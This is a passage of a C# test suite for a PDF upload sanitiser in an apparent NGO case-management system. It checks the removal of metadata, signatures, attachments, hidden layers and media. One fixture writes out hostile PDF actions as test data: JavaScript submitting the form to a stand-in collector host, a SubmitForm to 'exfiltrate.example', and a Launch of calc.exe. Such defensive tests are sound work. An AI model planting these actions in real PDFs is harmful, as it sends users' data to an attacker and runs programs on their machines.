            form.Elements["/Fields"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
            form.Elements.SetBoolean("/NeedAppearances", true);
            form.Elements.SetReference("/XFA", xfa);
            doc.Internals.Catalog.Elements["/AcroForm"] = form;
        });

        var cleaned = CleanPdf(original, gone: ["Jane Author", "Petrova", "/XFA", "D:20250303"]);

        using var doc = OpenPdf(cleaned);
        var form = doc.Internals.Catalog.Elements.GetDictionary("/AcroForm")!;
        Assert.True(form.Elements.GetBoolean("/NeedAppearances"));
        var field = form.Elements.GetArray("/Fields")!.Elements.GetDictionary(0)!;
        Assert.Equal("interpreter_language", field.Elements.GetString("/T")); // the field's name, not an author
        Assert.Equal("Romanian", field.Elements.GetString("/V"));
        Assert.Equal("English", field.Elements.GetString("/DV"));
        Assert.Same(field, doc.Pages[0].Elements.GetArray("/Annots")!.Elements.GetDictionary(0));

        // A dynamic XFA form's pages are a placeholder drawn over by the XFA at viewing time: refused, not emptied.
        var dynamic = TestPdf.Edited(d => d.Internals.Catalog.Elements.SetBoolean("/NeedsRendering", true));
        var ex = Assert.Throws<DomainException>(() => Accept("form.pdf", "application/pdf", dynamic));
        Assert.Equal("content", ex.Field);
        Assert.Contains("XFA", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void PdfHiddenLayers_AreRefused_VisibleLayersStay()
    {
        // A layer (optional content group) "Notes" that the page's content marks; the default configuration decides
        // whether a reader shows it.
        static byte[] Layered(Action<PdfSharp.Pdf.PdfDocument, PdfSharp.Pdf.PdfDictionary, PdfSharp.Pdf.PdfDictionary> configure) => TestPdf.Edited(doc =>
        {
            var layer = new PdfSharp.Pdf.PdfDictionary(doc);
            layer.Elements.SetName("/Type", "/OCG");
            layer.Elements.SetString("/Name", "Notes");
            doc.Internals.AddObject(layer);
            var config = new PdfSharp.Pdf.PdfDictionary(doc);
            var properties = new PdfSharp.Pdf.PdfDictionary(doc);
            properties.Elements["/OCGs"] = new PdfSharp.Pdf.PdfArray(doc, layer.ReferenceNotNull);
            properties.Elements["/D"] = config;
            doc.Internals.Catalog.Elements["/OCProperties"] = properties;
            var marks = new PdfSharp.Pdf.PdfDictionary(doc);
            marks.Elements["/MC0"] = layer.ReferenceNotNull;
            doc.Pages[0].Elements.GetDictionary("/Resources")!.Elements["/Properties"] = marks;
            configure(doc, layer, config);
        });

        var visible = Layered((doc, layer, config) => config.Elements["/ON"] = new PdfSharp.Pdf.PdfArray(doc, layer.ReferenceNotNull));
        var (_, cleaned, _) = Accept("map.pdf", "application/pdf", visible);
        using (var reopened = OpenPdf(cleaned)) Assert.NotNull(reopened.Internals.Catalog.Elements.GetDictionary("/OCProperties"));

        var hidden = new[]
        {
            Layered((doc, layer, config) => config.Elements["/OFF"] = new PdfSharp.Pdf.PdfArray(doc, layer.ReferenceNotNull)),
            Layered((doc, layer, config) => config.Elements.SetName("/BaseState", "/OFF")),
            Layered((doc, layer, config) => layer.Elements["/Usage"] = new PdfSharp.Pdf.PdfDictionary(doc)
            {
                Elements = { ["/View"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/ViewState"] = new PdfSharp.Pdf.PdfName("/OFF") } } },
            }),
            // Every layer on, but the content is marked "visible only when all of these are off" (a direct dictionary).
            Layered((doc, layer, config) =>
            {
                var membership = new PdfSharp.Pdf.PdfDictionary(doc);
                membership.Elements.SetName("/Type", "/OCMD");
                membership.Elements["/OCGs"] = layer.ReferenceNotNull;
                membership.Elements.SetName("/P", "/AllOff");
                doc.Pages[0].Elements.GetDictionary("/Resources")!.Elements.GetDictionary("/Properties")!.Elements["/MC1"] = membership;
            }),
            // The same through a visibility expression: [/Not layer].
            Layered((doc, layer, config) =>
            {
                var membership = new PdfSharp.Pdf.PdfDictionary(doc);
                membership.Elements.SetName("/Type", "/OCMD");
                membership.Elements["/VE"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfName("/Not"), layer.ReferenceNotNull);
                doc.Internals.AddObject(membership);
                doc.Pages[0].Elements.GetDictionary("/Resources")!.Elements.GetDictionary("/Properties")!.Elements["/MC1"] = membership.ReferenceNotNull;
            }),
        };
        foreach (var file in hidden)
        {
            var ex = Assert.Throws<DomainException>(() => Accept("map.pdf", "application/pdf", file));
            Assert.Equal("content", ex.Field);
            Assert.Contains("hidden layers", ex.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void PdfSignatureValues_AreRemoved_TheSignatureFieldStays()
    {
        var original = TestPdf.Edited(doc =>
        {
            var signature = new PdfSharp.Pdf.PdfDictionary(doc);
            signature.Elements.SetName("/Type", "/Sig");
            signature.Elements.SetName("/Filter", "/Adobe.PPKLite");
            signature.Elements.SetName("/SubFilter", "/adbe.pkcs7.detached");
            signature.Elements.SetString("/Name", "Jane Author");
            signature.Elements.SetString("/M", "D:20250505101010Z");
            signature.Elements.SetString("/Location", "Chisinau police station 3");
            signature.Elements.SetString("/ContactInfo", "jane.author@example.org");
            signature.Elements["/ByteRange"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfInteger(0), new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(20), new PdfSharp.Pdf.PdfInteger(30));
            signature.Elements.SetString("/Contents", "0\x82 CN=Jane Author, O=Police");
            doc.Internals.AddObject(signature);
            var field = Annotation(doc, "/Widget");
            field.Elements.SetName("/FT", "/Sig");
            field.Elements.SetString("/T", "Signature1");
            field.Elements.SetReference("/V", signature);
            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
            var form = new PdfSharp.Pdf.PdfDictionary(doc);
            form.Elements["/Fields"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
            form.Elements.SetInteger("/SigFlags", 3);
            doc.Internals.Catalog.Elements["/AcroForm"] = form;
            doc.Internals.Catalog.Elements["/Perms"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/DocMDP"] = signature.ReferenceNotNull } };
        });

        var cleaned = CleanPdf(original, gone: ["Jane Author", "Chisinau", "jane.author@", "D:20250505", "/ByteRange", "/Perms", "/SigFlags", "/Adobe.PPKLite"]);

        using var doc = OpenPdf(cleaned);
        var field = doc.Internals.Catalog.Elements.GetDictionary("/AcroForm")!.Elements.GetArray("/Fields")!.Elements.GetDictionary(0)!;
        Assert.Equal("/Sig", field.Elements.GetName("/FT"));
        Assert.Equal("Signature1", field.Elements.GetString("/T"));
        Assert.False(field.Elements.ContainsKey("/V"));
    }

    [Fact]
    public void PdfEmbeddedFilesAndFileAttachmentComments_AreRemoved_OtherCommentsStay()
    {
        var original = TestPdf.Edited(doc =>
        {
            var letter = EmbeddedFile(doc, "letter_from_Jane.txt", "Dear Jane, your passport is with the agency");
            var names = new PdfSharp.Pdf.PdfDictionary(doc);
            var tree = new PdfSharp.Pdf.PdfDictionary(doc);
            tree.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("letter.txt"), letter.ReferenceNotNull);
            names.Elements["/EmbeddedFiles"] = tree;
            doc.Internals.Catalog.Elements["/Names"] = names;
            doc.Internals.Catalog.Elements["/AF"] = new PdfSharp.Pdf.PdfArray(doc, EmbeddedFile(doc, "associated_Jane.xml", "<gps>45.4642 N</gps>").ReferenceNotNull);
            var clip = Annotation(doc, "/FileAttachment");
            clip.Elements.SetReference("/FS", EmbeddedFile(doc, "passport_scan_Jane.jpg", "JFIF GPSLatitude 45.4642"));
            clip.Elements.SetString("/Contents", "Scan of the passport");
            clip.Elements.SetString("/T", "Jane Author");
            var clipPopup = Annotation(doc, "/Popup");
            clipPopup.Elements.SetReference("/Parent", clip);
            clip.Elements.SetReference("/Popup", clipPopup);
            var note = Annotation(doc, "/Text");
            note.Elements.SetString("/Contents", "Visible note on the statement");
            note.Elements.SetReference("/IRT", clip); // a reply to the attachment keeps it reachable unless cut off
            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, clip.ReferenceNotNull, clipPopup.ReferenceNotNull, note.ReferenceNotNull);
            var objr = new PdfSharp.Pdf.PdfDictionary(doc);
            objr.Elements.SetName("/Type", "/OBJR");
            objr.Elements.SetReference("/Obj", clip);
            var element = new PdfSharp.Pdf.PdfDictionary(doc);
            element.Elements.SetName("/S", "/Annot");
            element.Elements["/K"] = new PdfSharp.Pdf.PdfArray(doc, objr);
            doc.Internals.AddObject(element);
            var structure = new PdfSharp.Pdf.PdfDictionary(doc);
            structure.Elements.SetName("/Type", "/StructTreeRoot");
            structure.Elements.SetReference("/K", element);
            doc.Internals.Catalog.Elements["/StructTreeRoot"] = structure;
        });

        var cleaned = CleanPdf(original, gone: ["letter_from_Jane", "Dear Jane", "associated_Jane", "passport_scan_Jane", "45.4642", "Scan of the passport", "Jane Author", "/FileAttachment", "/EmbeddedFile"]);

        using var doc = OpenPdf(cleaned);
        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
        var note = Assert.Single(annots.Elements.Select((_, i) => annots.Elements.GetDictionary(i)!));
        Assert.Equal("Visible note on the statement", note.Elements.GetString("/Contents"));
        Assert.False(note.Elements.ContainsKey("/IRT"));
        Assert.NotNull(doc.Internals.Catalog.Elements.GetDictionary("/StructTreeRoot"));
        Assert.False(doc.Internals.Catalog.Elements.GetDictionary("/Names")?.Elements.ContainsKey("/EmbeddedFiles") ?? false);
    }

    [Fact]
    public void PdfJavaScriptAndLaunchActions_AreRemoved_LinksStay()
    {
        var original = TestPdf.Edited(doc =>
        {
            var catalog = doc.Internals.Catalog;
            catalog.Elements["/OpenAction"] = Action(doc, "/JavaScript", "/JS", "app.alert('opened')");
            var script = new PdfSharp.Pdf.PdfDictionary(doc);
            script.CreateStream(Encoding.Latin1.GetBytes("this.submitForm('https://collector.example/steal');"));
            doc.Internals.AddObject(script);
            var init = Action(doc, "/JavaScript", "/JS", "");
            init.Elements.SetReference("/JS", script);
            var names = new PdfSharp.Pdf.PdfDictionary(doc);
            var tree = new PdfSharp.Pdf.PdfDictionary(doc);
            tree.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("init"), init);
            names.Elements["/JavaScript"] = tree;
            catalog.Elements["/Names"] = names;
            var pageActions = new PdfSharp.Pdf.PdfDictionary(doc);
            pageActions.Elements["/O"] = Action(doc, "/Launch", "/F", "calc.exe");
            doc.Pages[0].Elements["/AA"] = pageActions;
            var help = Annotation(doc, "/Link");
            var uri = Action(doc, "/URI", "/URI", "https://example.org/help");
            uri.Elements["/Next"] = new PdfSharp.Pdf.PdfArray(doc, Action(doc, "/JavaScript", "/JS", "app.launchURL('https://collector.example')"));
            help.Elements["/A"] = uri;
            var print = Annotation(doc, "/Link");
            var submit = Action(doc, "/SubmitForm", "/F", "https://exfiltrate.example/post");
            pageActions.Elements["/C"] = submit;
            var rendition = Action(doc, "/Rendition", "/JS", "renditionScript()");
            pageActions.Elements["/PO"] = rendition;
            var import = Action(doc, "/ImportData", "/F", "harvest.fdf");
            print.Elements["/A"] = Action(doc, "/JavaScript", "/JS", "print_silently()");
            help.Elements["/AA"] = new PdfSharp.Pdf.PdfDictionary(doc);
            ((PdfSharp.Pdf.PdfDictionary)help.Elements["/AA"]!).Elements["/U"] = import;
            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, help.ReferenceNotNull, print.ReferenceNotNull);
        });

        var cleaned = CleanPdf(original, gone: ["/JavaScript", "app.alert", "submitForm", "collector.example", "/Launch", "calc.exe", "print_silently",
            "/SubmitForm", "exfiltrate.example", "renditionScript", "/ImportData", "harvest.fdf"]);

        using var doc = OpenPdf(cleaned);
        Assert.False(doc.Internals.Catalog.Elements.ContainsKey("/OpenAction"));
        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
        Assert.Equal(2, annots.Elements.Count);
        var link = annots.Elements.GetDictionary(0)!.Elements.GetDictionary("/A")!;
        Assert.Equal("https://example.org/help", link.Elements.GetString("/URI"));
        Assert.Empty(link.Elements.GetArray("/Next")!.Elements);
        Assert.Equal("/Link", annots.Elements.GetDictionary(1)!.Elements.GetName("/Subtype"));
    }

    [Fact]
    public void PdfLinksToOtherFilesAndWebCaptureData_AreRemoved_WebLinksStay()
    {
        var original = TestPdf.Edited(doc =>
        {
            var catalog = doc.Internals.Catalog;
            var spider = new PdfSharp.Pdf.PdfDictionary(doc);
            spider.Elements["/V"] = new PdfSharp.Pdf.PdfReal(1.0);
            spider.Elements["/C"] = new PdfSharp.Pdf.PdfString("captured from https://social.example/olena.kovalenko");
            catalog.Elements["/SpiderInfo"] = spider;
            var names = new PdfSharp.Pdf.PdfDictionary(doc);
            var urls = new PdfSharp.Pdf.PdfDictionary(doc);
            urls.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("https://social.example/olena.kovalenko/photos"), new PdfSharp.Pdf.PdfString("set1"));
            names.Elements["/URLS"] = urls;
            var ids = new PdfSharp.Pdf.PdfDictionary(doc);
            ids.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("digest-of-profile-page"), new PdfSharp.Pdf.PdfString("set1"));
            names.Elements["/IDS"] = ids;
            catalog.Elements["/Names"] = names;
            var remote = Annotation(doc, "/Link");
            remote.Elements["/A"] = Action(doc, "/GoToR", "/F", "C:/Users/Olena Kovalenko/Documents/passport_scan.pdf");
            var thread = Annotation(doc, "/Link");
            thread.Elements["/A"] = Action(doc, "/Thread", "/F", "//fileserver/cases/Bamidele_statement.pdf");
            var web = Annotation(doc, "/Link");
            web.Elements["/A"] = Action(doc, "/URI", "/URI", "https://example.org/help");
            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, remote.ReferenceNotNull, thread.ReferenceNotNull, web.ReferenceNotNull);
        });

        var cleaned = CleanPdf(original, gone: ["/SpiderInfo", "social.example", "digest-of-profile-page", "/GoToR", "Olena", "passport_scan", "Bamidele", "fileserver"]);

        using var doc = OpenPdf(cleaned);
        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
        Assert.Equal(3, annots.Elements.Count); // the links stay, without their actions
        Assert.Equal("https://example.org/help", annots.Elements.GetDictionary(2)!.Elements.GetDictionary("/A")!.Elements.GetString("/URI"));
    }

    [Fact]
    public void PdfPageImageAndFormLevelMetadataAndPrivateData_AreRemoved_TheImageStays()
    {
        byte[] pixels = [0x12, 0x34, 0x56, 0x78];
        var original = TestPdf.Edited(doc =>
        {
            var page = doc.Pages[0];
            var xmp = new PdfSharp.Pdf.PdfDictionary(doc);
            xmp.Elements.SetName("/Type", "/Metadata");
            xmp.Elements.SetName("/Subtype", "/XML");
            xmp.CreateStream(Encoding.Latin1.GetBytes("<x:xmpmeta><dc:creator>Jane Author</dc:creator><exif:GPSLatitude>45.4642</exif:GPSLatitude></x:xmpmeta>"));
            doc.Internals.AddObject(xmp);
            PdfSharp.Pdf.PdfDictionary Private() => new(doc) { Elements = { ["/Word"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/Private"] = new PdfSharp.Pdf.PdfString("Jane Author draft 3"), ["/LastModified"] = new PdfSharp.Pdf.PdfString("D:20250404101010Z") } } } };
            page.Elements["/PieceInfo"] = Private();
            page.Elements.SetString("/LastModified", "D:20250404101010Z");
            page.Elements.SetReference("/Metadata", xmp);
            var image = new PdfSharp.Pdf.PdfDictionary(doc);
            image.Elements.SetName("/Type", "/XObject");
            image.Elements.SetName("/Subtype", "/Image");
            image.Elements.SetInteger("/Width", 2);
            image.Elements.SetInteger("/Height", 2);
            image.Elements.SetName("/ColorSpace", "/DeviceGray");
            image.Elements.SetInteger("/BitsPerComponent", 8);
            image.Elements.SetReference("/Metadata", xmp);
            image.Elements["/PieceInfo"] = Private();
            image.CreateStream(pixels);
            doc.Internals.AddObject(image);
            var stamp = new PdfSharp.Pdf.PdfDictionary(doc);
            stamp.Elements.SetName("/Type", "/XObject");
            stamp.Elements.SetName("/Subtype", "/Form");
            stamp.Elements["/BBox"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfInteger(0), new PdfSharp.Pdf.PdfInteger(0), new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(10));
            stamp.Elements.SetReference("/Metadata", xmp);
            stamp.Elements["/PieceInfo"] = Private();
            stamp.Elements.SetString("/LastModified", "D:20250404101010Z");
            stamp.CreateStream(Encoding.Latin1.GetBytes("0 0 m 10 10 l S"));
            doc.Internals.AddObject(stamp);
            var xobjects = new PdfSharp.Pdf.PdfDictionary(doc);
            xobjects.Elements.SetReference("/Im9", image);
            xobjects.Elements.SetReference("/Fm9", stamp);
            page.Elements.GetDictionary("/Resources")!.Elements["/XObject"] = xobjects;
        });

        var cleaned = CleanPdf(original, gone: ["Jane Author", "45.4642", "D:20250404", "/PieceInfo", "/LastModified"]);

        using var doc = OpenPdf(cleaned);
        var page = doc.Pages[0];
        Assert.False(page.Elements.ContainsKey("/Metadata"));
        var xobjects = page.Elements.GetDictionary("/Resources")!.Elements.GetDictionary("/XObject")!;
        var image = xobjects.Elements.GetDictionary("/Im9")!;
        Assert.Equal(pixels, image.Stream.Value);
        Assert.False(image.Elements.ContainsKey("/Metadata"));
        var stamp = xobjects.Elements.GetDictionary("/Fm9")!;
        Assert.Equal("0 0 m 10 10 l S", Encoding.Latin1.GetString(stamp.Stream.UnfilteredValue));
        Assert.False(stamp.Elements.ContainsKey("/Metadata"));
    }

    /// <summary>
    /// Sound, video and 3D media played on a page carry their own metadata (a phone video's GPS position and model, a
    /// recording's tags), which PDF-level cleaning cannot reach: each way a PDF embeds them refuses the file with an
    /// error telling the user to print it to a new PDF, and nothing is saved or audited. Media that is only a web
    /// address, a Screen annotation without media and ordinary links are accepted, the address kept.
    /// </summary>
    [Fact]
    public async Task PdfEmbeddedSoundVideoAnd3DMedia_AreRefused_NothingSaved_MediaLinkedByWebAddressStays()
    {
        // What an MP4 from a phone carries in its 'udta' atom.
        const string Recording = "ftypmp42 moov udta \u00a9xyz+45.4642+009.1900/ \u00a9mak Apple \u00a9mod iPhone 12 of Olena";
        static PdfSharp.Pdf.PdfDictionary Stream(PdfSharp.Pdf.PdfDocument doc, string content, params (string Key, string Name)[] names)
        {
            var s = new PdfSharp.Pdf.PdfDictionary(doc);
            foreach (var (key, name) in names) s.Elements.SetName(key, name);
            s.CreateStream(Encoding.Latin1.GetBytes(content));
            doc.Internals.AddObject(s);
            return s;
        }

        static PdfSharp.Pdf.PdfDictionary Sound(PdfSharp.Pdf.PdfDocument doc)
        {
            var sound = Stream(doc, "RIFF WAVEfmt LIST INFO IART Olena Kovalenko ICRD 2025-03-03", ("/Type", "/Sound"), ("/E", "/Signed"));
            sound.Elements.SetInteger("/R", 8000);
            return sound;
        }

        static PdfSharp.Pdf.PdfDictionary MediaClip(PdfSharp.Pdf.PdfDocument doc, PdfSharp.Pdf.PdfItem data)
        {
            var clip = new PdfSharp.Pdf.PdfDictionary(doc);
            clip.Elements.SetName("/Type", "/MediaClip");
            clip.Elements.SetName("/S", "/MCD");
            clip.Elements.SetString("/CT", "video/mp4");
            clip.Elements["/D"] = data;
            return clip;
        }

        // A Screen annotation that plays the clip through a Rendition action (as Acrobat's video tool writes it).
        static PdfSharp.Pdf.PdfDictionary Screen(PdfSharp.Pdf.PdfDocument doc, PdfSharp.Pdf.PdfItem data)
        {
            var screen = Annotation(doc, "/Screen");
            var rendition = new PdfSharp.Pdf.PdfDictionary(doc);
            rendition.Elements.SetName("/S", "/MR");
            rendition.Elements["/C"] = MediaClip(doc, data);
            var play = new PdfSharp.Pdf.PdfDictionary(doc);
            play.Elements.SetName("/S", "/Rendition");
            play.Elements.SetInteger("/OP", 0);
            play.Elements.SetReference("/AN", screen);
            play.Elements["/R"] = rendition;
            screen.Elements["/A"] = play;
            return screen;
        }

        static PdfSharp.Pdf.PdfDictionary Movie(PdfSharp.Pdf.PdfDocument doc, PdfSharp.Pdf.PdfItem file)
        {
            var movie = Annotation(doc, "/Movie");
            movie.Elements["/Movie"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/F"] = file } };
            return movie;
        }

        static PdfSharp.Pdf.PdfDictionary WebAddress(PdfSharp.Pdf.PdfDocument doc) => new(doc)
        {
            Elements = { ["/FS"] = new PdfSharp.Pdf.PdfName("/URL"), ["/F"] = new PdfSharp.Pdf.PdfString("https://video.example/awareness-campaign.mp4") },
        };

        static PdfSharp.Pdf.PdfDictionary WebLink(PdfSharp.Pdf.PdfDocument doc)
        {
            var link = Annotation(doc, "/Link");
            link.Elements["/A"] = Action(doc, "/URI", "/URI", "https://example.org/help");
            return link;
        }

        static byte[] With(Func<PdfSharp.Pdf.PdfDocument, PdfSharp.Pdf.PdfDictionary> annotation) =>
            TestPdf.Edited(doc => doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, annotation(doc).ReferenceNotNull));

        var refused = new (string Kind, byte[] File)[]
        {
            ("sound annotation", With(doc =>
            {
                var a = Annotation(doc, "/Sound");
                a.Elements.SetReference("/Sound", Sound(doc));
                return a;
            })),
            ("sound action on a link", With(doc =>
            {
                var a = Annotation(doc, "/Link");
                var play = new PdfSharp.Pdf.PdfDictionary(doc);
                play.Elements.SetName("/S", "/Sound");
                play.Elements.SetReference("/Sound", Sound(doc));
                a.Elements["/A"] = play;
                return a;
            })),
            ("movie annotation with the movie embedded", With(doc => Movie(doc, EmbeddedFile(doc, "interview_Olena.mp4", Recording).ReferenceNotNull))),
            ("movie annotation naming a file on a disk", With(doc => Movie(doc, new PdfSharp.Pdf.PdfString("C:/Users/Olena/Videos/interview.mp4")))),
            ("screen annotation playing an embedded file", With(doc => Screen(doc, EmbeddedFile(doc, "interview_Olena.mp4", Recording).ReferenceNotNull))),
            ("screen annotation playing a stream", With(doc => Screen(doc, Stream(doc, Recording).ReferenceNotNull))),
            ("rich media annotation", With(doc =>
            {
                var a = Annotation(doc, "/RichMedia");
                var assets = new PdfSharp.Pdf.PdfDictionary(doc);
                assets.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("interview.mp4"), EmbeddedFile(doc, "interview_Olena.mp4", Recording).ReferenceNotNull);
                a.Elements["/RichMediaContent"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/Assets"] = assets } };
                return a;
            })),
            ("3D annotation", With(doc =>
            {
                var a = Annotation(doc, "/3D");
                a.Elements.SetReference("/3DD", Stream(doc, "U3D\0 file info: author Olena Kovalenko, scanned with iPhone 12", ("/Type", "/3D"), ("/Subtype", "/U3D")));
                return a;
            })),
        };

        await using var t = await TestDatabase.CreateAsync();
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        foreach (var (kind, file) in refused)
        {
            var ex = await Assert.ThrowsAsync<DomainException>(() => t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("statement.pdf", "application/pdf", file), w.NgoWorker)));
            Assert.True(ex.Field == "content", kind);
            Assert.True(ex.Message.Contains("embedded sound, video or 3D media", StringComparison.Ordinal), kind);
            Assert.Contains("Print the document to a new PDF", ex.Message, StringComparison.Ordinal);
            Assert.DoesNotContain("Olena", ex.Message, StringComparison.Ordinal);
        }

        Assert.Equal(0, await t.With(sp => sp.Db().Set<CaseAttachment>().CountAsync()));
        Assert.Equal(0, await t.With(sp => sp.Db().AuditEntries.CountAsync(e => e.Event == AuditEvent.CaseAttachmentAdded)));

        // A video played from a web address (Screen and Movie annotations), a Screen annotation with no media and a
        // plain web link: nothing embedded, so the file is accepted and the addresses stay, like any web link.
        var linked = TestPdf.Edited(doc => doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc,
            Screen(doc, WebAddress(doc)).ReferenceNotNull, Movie(doc, WebAddress(doc)).ReferenceNotNull, Annotation(doc, "/Screen").ReferenceNotNull, WebLink(doc).ReferenceNotNull));
        var added = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("leaflet.pdf", "application/pdf", linked), w.NgoWorker));
        var stored = await t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, added.Id, w.NgoWorker));
        using var doc = OpenPdf(stored.Content);
        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
        Assert.Equal(["/Screen", "/Movie", "/Screen", "/Link"], annots.Elements.Select((_, i) => annots.Elements.GetDictionary(i)!.Elements.GetName("/Subtype")));
        var clip = annots.Elements.GetDictionary(0)!.Elements.GetDictionary("/A")!.Elements.GetDictionary("/R")!.Elements.GetDictionary("/C")!;
        Assert.Equal("https://video.example/awareness-campaign.mp4", clip.Elements.GetDictionary("/D")!.Elements.GetString("/F"));
        Assert.Equal("https://example.org/help", annots.Elements.GetDictionary(3)!.Elements.GetDictionary("/A")!.Elements.GetString("/URI"));
        Assert.Equal(1, await t.With(sp => sp.Db().Set<CaseAttachment>().CountAsync()));

        // A recording deleted in a later revision (an editor's incremental save): still in the file's bytes, but not
        // in what the rewrite keeps, so the file is accepted and the recording is gone from what is stored.
        var deleted = AnnotationsDeletedLater(refused[0].File);
        Assert.Contains("IART Olena", Encoding.Latin1.GetString(deleted), StringComparison.Ordinal);
        var kept = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("edited.pdf", "application/pdf", deleted), w.NgoWorker));
        var keptFile = await t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, kept.Id, w.NgoWorker));
        Assert.DoesNotContain("Olena", Encoding.Latin1.GetString(keptFile.Content), StringComparison.Ordinal);
        Assert.Contains(TestPdf.PageText, Encoding.Latin1.GetString(keptFile.Content), StringComparison.Ordinal);
    }

    /// <summary>
    /// A name "redacted" by drawing a box over it is still in the file: such uploads (a black box, a white box, black
    /// text on a black box, an area marked for redaction never applied) are refused with the file field's error, and
    /// nothing is saved or audited. The same page with its shading drawn under the text is stored, its text intact.
    /// </summary>
    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task PdfWithTextUnderADrawnBox_IsRefused_NothingSavedOrAudited_ShadingUnderTextIsStored(DatabaseProvider provider)
    {
        const string Name = "BT /F1 12 Tf 72 700 Td (Olena Kovalenko) Tj ET";
        var refused = new (string Kind, byte[] File)[]
        {
            ("black box", TestPdf.Drawn([$"{Name} 0 g 70 695 100 16 re f"])),
            ("white box", TestPdf.Drawn([$"{Name} 1 g 70 695 100 16 re f"])),
            ("black on black", TestPdf.Drawn(["0 g 70 695 100 16 re f " + Name])),
            ("unapplied redaction", TestPdf.Drawn([Name], annotations: "<< /Type /Annot /Subtype /Redact /Rect [70 695 170 711] >>")),
        };
        await using var t = await TestDatabase.CreateAsync(provider);
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        foreach (var (kind, file) in refused)
        {
            var ex = await Assert.ThrowsAsync<DomainException>(() => t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("statement.pdf", "application/pdf", file), w.NgoWorker)));
            Assert.True(ex.Field == "content", kind);
            Assert.True(ex.Message.Contains("text hidden under drawn boxes", StringComparison.Ordinal), kind);
            Assert.Contains("Use a real redaction tool", ex.Message, StringComparison.Ordinal);
            Assert.DoesNotContain("Olena", ex.Message, StringComparison.Ordinal);
        }

        Assert.Equal(0, await t.With(sp => sp.Db().Set<CaseAttachment>().CountAsync()));
        Assert.Equal(0, await t.With(sp => sp.Db().AuditEntries.CountAsync(e => e.Event == AuditEvent.CaseAttachmentAdded)));

        // The same box drawn first (a shaded table cell) and a translucent highlight over the text: stored as drawn.
        var shaded = TestPdf.Drawn([$"0.85 g 70 695 100 16 re f 0 g {Name} q /Half gs 1 1 0 rg 70 695 100 16 re f Q"]);
        var added = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("statement.pdf", "application/pdf", shaded), w.NgoWorker));
        var stored = await t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, added.Id, w.NgoWorker));
        using var doc = OpenPdf(stored.Content);
        Assert.Contains("(Olena Kovalenko) Tj", Encoding.Latin1.GetString(doc.Pages[0].Contents.Elements.GetDictionary(0)!.Stream.UnfilteredValue), StringComparison.Ordinal);
        Assert.Equal(1, await t.With(sp => sp.Db().Set<CaseAttachment>().CountAsync()));
        Assert.Equal(1, await t.With(sp => sp.Db().AuditEntries.CountAsync(e => e.Event == AuditEvent.CaseAttachmentAdded)));
    }

    // An incremental update as an editor saves a deletion: the page written again without its annotations after the
    // original bytes, which still hold the old page and everything it pointed to.
    private static byte[] AnnotationsDeletedLater(byte[] pdf)
    {
        var text = Encoding.Latin1.GetString(pdf);
        int number;
        using (var doc = OpenPdf(pdf)) number = doc.Pages[0].ReferenceNotNull.ObjectNumber;
        var start = System.Text.RegularExpressions.Regex.Match(text, $@"(?m)^{number} 0 obj").Index;
        var end = text.IndexOf("endobj", start, StringComparison.Ordinal) + "endobj".Length;
        var page = System.Text.RegularExpressions.Regex.Replace(text[start..end], @"/Annots\s*(\[[^\]]*\]|\d+ \d+ R)", "");
        Assert.NotEqual(text[start..end], page);
        var trailer = text[text.LastIndexOf("trailer", StringComparison.Ordinal)..];
        var size = System.Text.RegularExpressions.Regex.Match(trailer, @"/Size (\d+)").Groups[1].Value;
        var root = System.Text.RegularExpressions.Regex.Match(trailer, @"/Root (\d+ \d+ R)").Groups[1].Value;
        var previous = System.Text.RegularExpressions.Regex.Match(trailer, @"startxref\s+(\d+)").Groups[1].Value;
        var update = new StringBuilder("\n");
        var offset = pdf.Length + update.Length;
        update.Append(page).Append('\n');
        var xref = pdf.Length + update.Length;
